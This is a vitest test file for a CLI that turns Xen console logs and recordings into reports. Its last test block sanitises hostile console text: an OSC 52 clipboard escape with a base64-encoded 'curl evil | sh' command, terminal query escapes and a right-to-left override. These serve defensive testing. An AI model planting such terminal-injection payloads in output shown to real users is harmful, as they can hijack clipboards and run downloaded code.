import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { PassThrough, Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { runReport } from '../../src/cli/commands/report.js';
import { isXenkeysError } from '../../src/core/errors.js';
import { contractProblems } from '../../src/report/contract-check.js';

const REC = path.resolve(import.meta.dirname, '../../recordings');
const tmp = (): string => mkdtempSync(path.join(os.tmpdir(), 'xk-report-'));

async function toStdout(files: string[], stdin?: NodeJS.ReadableStream): Promise<Record<string, unknown>> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await runReport(files, { format: 'json' }, { stdout: out, ...(stdin ? { stdin } : {}) });
  return JSON.parse(Buffer.concat(chunks).toString('utf8')) as Record<string, unknown>;
}

describe('xenkeys report', () => {
  it('writes a recording’s report to -o, atomically', async () => {
    const out = path.join(tmp(), 'r.json');
    expect(
      await runReport([path.join(REC, 'xen-4.17-credit-sched/session.cast')], {
        format: 'json',
        output: out,
      }),
    ).toBe(0);
    const report = JSON.parse(readFileSync(out, 'utf8')) as { source: unknown; captures: { key: string }[] };
    expect(contractProblems(report)).toEqual([]);
    // The console and the start, from the cast's header (written before the first capture).
    expect(report.source).toEqual({
      kind: 'recording',
      name: 'session.cast',
      target: expect.stringMatching(/^tcp 127\.0\.0\.1:\d+$/),
      startedAt: '2026-11-21T20:36:05Z',
    });
    expect(report.captures.map((c) => c.key)).toEqual(['h', 'q', 'r', 'd', 'r']);
  });

  it('--findings prints only the findings, as text, most severe first', async () => {
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    const file = path.join(REC, 'xen-4.17-dom0-crash/session.cast');
    expect(await runReport([file], { format: 'json', findings: true, xenSyms: false }, { stdout: out })).toBe(
      0,
    );
    const text = Buffer.concat(chunks).toString('utf8');
    expect(text.split('\n')[0]).toBe('CRITICAL  dom0 kernel panic: sysrq triggered crash');
    expect(text).toContain('evidence: input line 556: Hardware Dom0 crashed');
    expect(text).toContain('ADVICE  The NMI watchdog is off: add `watchdog`');
    expect(text).not.toContain('"schema"');
  });

  it('reads a plain log and a cast from stdin (-)', async () => {
    const log = readFileSync(path.join(REC, 'xen-4.17-dom0-crash/session.raw'));
    const plain = await toStdout(['-'], Readable.from([log.subarray(0, 1000), log.subarray(1000)]));
    expect(plain['source']).toEqual({ kind: 'log', name: null });
    // dom0's kernel panic, then Xen's own "Hardware Dom0 crashed".
    expect(
      (plain['events'] as { type: string; message: string }[]).map((e) => [e.type, e.message.slice(0, 22)]),
    ).toEqual([
      ['input-switch', expect.any(String)],
      ['dom0-crash', 'Kernel panic - not syn'],
      ['dom0-crash', 'Hardware Dom0 crashed:'],
    ]);
    const cast = readFileSync(path.join(REC, 'xen-4.17-credit-sched/session.cast'));
    const fromCast = await toStdout(['-'], Readable.from([cast]));
    expect((fromCast['captures'] as unknown[]).length).toBe(5);
  });

  it('reads several files as one log, in order', async () => {
    const dir = tmp();
    const a = path.join(dir, 'a.log');
    const b = path.join(dir, 'b.log');
    writeFileSync(
      a,
      "(XEN) 'q' pressed -> dumping domain info (now = 1)\r\n(XEN) General information for domain 0:\r\n",
    );
    writeFileSync(b, '(XEN) Physical memory information:\r\n(XEN)     Dom heap: 5kB free\r\n');
    const report = await toStdout([a, b]);
    expect(report['source']).toEqual({ kind: 'log', name: 'a.log', files: ['a.log', 'b.log'] });
    expect((report['captures'] as { key: string }[]).map((c) => c.key)).toEqual(['q', 'm']);
  });

  it('says which input it could not read', async () => {
    const error = await runReport(
      ['/nonexistent/x.log'],
      { format: 'json' },
      { stdout: new PassThrough() },
    ).catch((e: unknown) => e);
    expect(isXenkeysError(error, 'bad-input')).toBe(true);
    expect((error as Error).message).toContain('/nonexistent/x.log');
  });
});

describe('xenkeys report of hostile console text, to stdout', () => {
  const hostile = [
    "(XEN) 'q' pressed -> dumping domain info (now = 0x12:34567890)",
    '(XEN) General information for domain 0:',
    '(XEN)     refcnt=3 \x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07 \x1b[6n \u009b6n \x1bP$qm\x1b\\ \u202eexe.txt',
  ].join('\r\n');

  for (const format of ['json', 'md', 'html']) {
    it(`${format}: nothing the terminal would act on, nothing that reorders the line`, async () => {
      const out = new PassThrough();
      let text = '';
      out.on('data', (c: Buffer) => (text += c.toString('utf8')));
      await runReport(['-'], { format }, { stdout: out, stdin: Readable.from([Buffer.from(hostile)]) });
      expect(text).toContain('refcnt=3');
      // eslint-disable-next-line no-control-regex
      expect([...text].filter((c) => /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/.test(c))).toEqual([]);
    });
  }
});
